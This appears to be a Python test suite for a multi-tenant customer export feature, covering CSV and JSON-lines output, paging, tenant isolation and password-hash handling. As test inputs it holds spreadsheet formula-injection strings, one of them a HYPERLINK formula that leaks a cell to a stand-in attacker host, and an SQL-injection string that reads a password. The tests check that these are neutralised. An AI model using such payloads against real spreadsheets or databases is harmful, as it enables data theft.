"""Customers are taken away as a file, streamed page by page, by nobody who may not, and computed by no spreadsheet."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from django.db import connection
from django_tenants.utils import schema_context, tenant_context

from accounts.identity.lookup import custom_attribute_types
from accounts.identity.services.accounts import create_account, delete_account, update_profile
from accounts.identity.services.attributes import MAX_CUSTOM_ATTRIBUTES, define_custom_attribute
from accounts.identity.services.groups import add_to_group, create_group
from accounts.models import Account, Activity, CustomAttribute
from audit.models import Event
from bulk.exports import services
from bulk.exports.columns import csv_line, known_columns
from bulk.exports.services import everybody, export_customers, written_as_json
from common.problems import Refused
from common.text.spreadsheets import safe_cell
from portal_frame.downloads import streamed
from tenants.lookup import PUBLIC
from tenants.models import Tenant
from tenants.postgresql import current_schema
from tests.bulk.files import ACTOR, imported

COLUMNS = ["email", "givenName", "loyaltyNumber", "groups"]
FORMULAS = {
    '=HYPERLINK("https://eve.example?"&A1)': '\'=HYPERLINK("https://eve.example?"&A1)',
    "+cmd": "'+cmd",
    "-2+3+cmd": "'-2+3+cmd",
    "@SUM(A1)": "'@SUM(A1)",
    "＝1+1": "'＝1+1",
    "-1": "-1",
    "+49 (221) 12/34": "+49 (221) 12/34",
    'plain, "quoted"': 'plain, "quoted"',
    "": "",
}


def text_of(pieces: Iterator[bytes]) -> str:
    return b"".join(pieces).decode("utf-8-sig")


def rows_of(pieces: Iterator[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_of(pieces))))


def exported(kind: str = "csv", **chosen: object) -> Iterator[bytes]:
    return export_customers(everybody(), columns=COLUMNS, kind=kind, actor=ACTOR, **chosen)  # type: ignore[arg-type]


@pytest.fixture
def carol_in_group(acme: Tenant) -> Account:
    with tenant_context(acme):
        carol = Account.objects.get(email="carol@acme.example")
        for name in ("Wholesale", "Abroad"):
            add_to_group(create_group(name=name, actor=ACTOR), account=carol, actor=ACTOR)
        return carol


def test_a_spreadsheet_has_the_columns_that_were_chosen(acme: Tenant, carol_in_group: Account) -> None:
    with tenant_context(acme):
        rows = rows_of(exported())
        assert rows == [
            {
                "email": "carol@acme.example",
                "givenName": "Carol",
                "loyaltyNumber": "C-1001",
                "groups": "Abroad; Wholesale",
            },
            {"email": "dan@acme.example", "givenName": "Dan", "loyaltyNumber": "", "groups": ""},
        ]
        told = Event.objects.get(action="customers.exported")
        assert (told.actor_name, told.details["columns"]) == ("A test", COLUMNS)


def test_a_file_tells_when_and_how_often_each_signed_in(acme: Tenant, carol_in_group: Account) -> None:
    with tenant_context(acme):
        Activity.objects.create(
            account=carol_in_group, last_sign_in_at=datetime(2026, 3, 5, 14, 4, tzinfo=UTC), sign_ins=3
        )
        columns = ["email", "lastSignInAt", "signIns"]
        rows, lines = (
            text_of(export_customers(everybody(), columns=columns, kind=kind, actor=ACTOR)).splitlines()
            for kind in ("csv", "jsonl")
        )
        assert rows[1:] == ['"carol@acme.example","2026-03-05T14:04:00Z","3"', '"dan@acme.example","","0"']
        assert [json.loads(line) for line in lines] == [
            {"email": "carol@acme.example", "lastSignInAt": "2026-03-05T14:04:00Z", "signIns": 3},
            {"email": "dan@acme.example", "signIns": 0},
        ]


def test_json_lines_lose_nothing(acme: Tenant, carol_in_group: Account) -> None:
    with tenant_context(acme):
        lines = [json.loads(line) for line in text_of(exported("jsonl")).splitlines()]
        assert lines == [
            {
                "email": "carol@acme.example",
                "givenName": "Carol",
                "loyaltyNumber": "C-1001",
                "groups": ["Abroad", "Wholesale"],
            },
            {"email": "dan@acme.example", "givenName": "Dan"},
        ]


def test_as_many_attributes_as_a_tenant_can_have_leave_in_one_line_in_the_order_asked_for(acme: Tenant) -> None:
    with tenant_context(acme):
        for number in range(MAX_CUSTOM_ATTRIBUTES - CustomAttribute.objects.count()):
            define_custom_attribute(name=f"extra{number:03}", data_type="Int", actor=ACTOR)
        carol = Account.objects.get(email="carol@acme.example")
        update_profile(carol, attributes={"city": 'Köln, "am" {Rhein}', "extra001": 1, "extra090": 90}, actor=ACTOR)
        columns = known_columns(custom_attribute_types())
        for asked in (columns, columns[::-1]):
            lines = text_of(export_customers(everybody(), columns=asked, kind="jsonl", actor=ACTOR)).splitlines()
            told = json.loads(lines[0])
            assert list(told) == [name for name in asked if name in told]
            assert told == told | {"email": "carol@acme.example", "extra001": 1, "extra090": 90}
        assert json.loads(written_as_json(carol))["city"] == 'Köln, "am" {Rhein}'
        # Some of them have nothing in one half, or nothing at all.
        dan = Account.objects.get(email="dan@acme.example")
        assert json.loads(written_as_json(dan))["email"] == dan.email
        nothing = export_customers(everybody(), columns=["extra002"], kind="jsonl", actor=ACTOR)
        assert text_of(nothing) == "{}\n{}\n"
        cells = export_customers(everybody(), columns=columns, kind="csv", actor=ACTOR)
        assert rows_of(cells)[0]["extra090"] == "90"


@pytest.mark.parametrize(("typed", "cell"), FORMULAS.items())
def test_c02_p43_no_cell_is_a_formula_to_a_spreadsheet(acme: Tenant, typed: str, cell: str) -> None:
    assert safe_cell(typed) == cell
    with tenant_context(acme):
        carol = Account.objects.get(email="carol@acme.example")
        Account.objects.filter(pk=carol.pk).update(given_name=typed)
        assert rows_of(exported())[0]["givenName"] == cell


def test_what_was_exported_is_imported_as_it_was(acme: Tenant, globex: Tenant) -> None:
    with tenant_context(acme):
        carol = Account.objects.get(email="carol@acme.example")
        update_profile(
            carol, attributes={"givenName": "=Carol", "jobTitle": 'He said "no"', "country": "FR"}, actor=ACTOR
        )
        columns = ["email", "givenName", "surname", "jobTitle", "country"]
        content = b"".join(export_customers(everybody(), columns=columns, kind="csv", actor=ACTOR))
        lines = text_of(export_customers(everybody(), columns=columns, kind="jsonl", with_hashes=True, actor=ACTOR))
        before = list(everybody().order_by("email").values_list(*_COPIED))
    with tenant_context(globex):
        _forget_everybody()
        assert imported(content).done == 2
        assert [row[:-1] for row in everybody().order_by("email").values_list(*_COPIED)] == [row[:-1] for row in before]
        _forget_everybody()
        assert imported(lines).done == 2
        assert list(everybody().order_by("email").values_list(*_COPIED)) == before


def _forget_everybody() -> None:
    with connection.cursor() as cursor:
        cursor.execute("DELETE FROM accounts_account")


_COPIED = ("email", "given_name", "surname", "job_title", "country", "password")


def test_pages_follow_each_other_without_gap_or_repetition(acme: Tenant, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(services, "FIRST_PAGE", 2)
    monkeypatch.setattr(services, "PAGE", 3)
    with tenant_context(acme):
        # Many that came in one moment.
        imported("email\n" + "".join(f"person{number}@acme.example\n" for number in range(11)))
        pieces = list(exported())
        assert len(pieces) > 4
        emails = [row["email"] for row in rows_of(iter(pieces))]
        assert len(emails) == len(set(emails)) == Account.objects.count()


def test_deleted_customers_arent_exported(acme: Tenant) -> None:
    with tenant_context(acme):
        delete_account(Account.objects.get(email="dan@acme.example"), actor=ACTOR)
        assert [row["email"] for row in rows_of(exported())] == ["carol@acme.example"]


def test_t44_two_tenants_streams_read_at_once_stay_apart(
    acme: Tenant, globex: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """T-44: what makes a file runs after the request, when the connection serves whoever came next."""
    monkeypatch.setattr(services, "FIRST_PAGE", 1)
    monkeypatch.setattr(services, "PAGE", 1)
    streams = []
    for tenant in (acme, globex):
        with tenant_context(tenant):
            create_account(email="same@everywhere.example", password=None, email_verified=True, actor=ACTOR)
            made = export_customers(everybody(), columns=["email"], kind="csv", actor=ACTOR)
            streams.append(streamed(tenant, made, file_name="customers.csv"))

    read: list[list[bytes]] = [[], []]
    with schema_context(PUBLIC):
        iterators = [iter(stream) for stream in streams]  # type: ignore[arg-type]
        for _ in range(6):
            for pieces, iterator in zip(read, iterators, strict=True):
                pieces.append(next(iterator, b""))
                assert current_schema() == PUBLIC
    told = [[row["email"] for row in rows_of(iter(pieces))] for pieces in read]
    assert told == [
        ["carol@acme.example", "dan@acme.example", "same@everywhere.example"],
        ["eve@globex.example", "same@everywhere.example"],
    ]


def test_p43_hashes_leave_in_json_lines_alone_and_never_unasked(acme: Tenant) -> None:
    with tenant_context(acme):
        assert "passwordHash" not in known_columns(["loyaltyNumber"])
        for asked in (["password"], ["passwordHash"], ["email", "custom_attributes"], []):
            with pytest.raises(Refused):
                export_customers(everybody(), columns=asked, kind="jsonl", actor=ACTOR)
        with pytest.raises(Refused, match="JSON lines only"):
            exported("csv", with_hashes=True)
        with pytest.raises(Refused):
            exported("xlsx")
        assert "argon2" not in text_of(exported("jsonl")) + text_of(exported("csv"))
        assert "argon2" in text_of(exported("jsonl", with_hashes=True))
        assert Event.objects.filter(details__password_hashes=True).count() == 1


def test_a_name_that_holds_sql_is_a_name(acme: Tenant) -> None:
    name = "x', (SELECT password FROM accounts_account LIMIT 1), '%s %(x)s"
    with tenant_context(acme):
        parameters: dict[str, str] = {}
        assert name not in csv_line([name], parameters)
        assert list(parameters.values()) == [name]
